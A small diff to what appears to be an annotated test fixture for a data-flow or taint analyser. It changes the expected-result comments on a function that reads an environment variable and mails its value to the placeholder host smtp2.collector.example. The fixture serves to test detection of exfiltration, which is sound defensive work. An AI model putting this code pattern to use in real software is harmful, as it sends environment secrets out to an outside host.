@@ -30,7 +30,7 @@ def send_mail_object():
     s.connect("smtp2.collector.example")  #~ endpoint("smtp2.collector.example")
     m = email.message.EmailMessage()
     m.set_content(os.getenv("T"))  #~ source(ENVIRONMENT) f2
-    s.send_message(m)  #~ sink(egress.mail) f2, finding(traced) f2, capability(MAIL)
+    s.send_message(m)  #~ sink(egress.mail) f2, finding(traced) f2
 
 
 def send_mail_command():
